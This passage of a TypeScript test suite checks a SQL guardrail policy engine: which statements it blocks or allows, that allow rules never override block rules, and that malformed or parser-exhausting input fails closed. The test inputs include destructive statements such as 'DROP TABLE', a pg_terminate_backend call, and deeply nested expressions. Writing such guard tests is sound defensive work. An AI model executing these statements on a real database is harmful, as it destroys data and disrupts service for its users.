    expect(evaluate('DROP TABLE x', only).action).toBe('block');
    expect(evaluate('DROP VIEW x', only).action).toBe('allow');
    expect(evaluate('DROP TABLESPACE x', only).action).toBe('allow');
  });

  it('an allow guardrail never overrides a stricter one', () => {
    const p = parsePolicyDocument({
      name: 't',
      guardrails: [
        { name: 'ok', action: 'allow', match: { statements: ['DROP'] } },
        { name: 'no', action: 'block', match: { statements: ['DROP'] } },
      ],
    });
    expect(evaluate('DROP TABLE x', p)).toMatchObject({ action: 'block', rule: 'no' });
  });

  it('a text that is not a string fails closed', () => {
    expect(evaluate(42 as unknown as string, doc).action).toBe('block');
  });

  it('input that exhausts the parser fails closed, not crash', () => {
    const deep = `SELECT ${'('.repeat(20000)}1${')'.repeat(20000)}`;
    // refused before the parser sees it (sql-complexity.ts): 54001 for the client
    expect(evaluate(deep, doc)).toMatchObject({ action: 'block', rule: 'statement-too-complex', sqlstate: '54001' });
    const long = `SELECT 1${' + 1'.repeat(20000)}`;
    expect(evaluate(long, doc)).toMatchObject({ action: 'block', rule: 'statement-too-complex', sqlstate: '54001' });
  });

  it('CALL is analysed like any function call', () => {
    expect(evaluate('CALL pg_terminate_backend(1)', doc)).toMatchObject({ action: 'block', rule: KILL });
  });
});
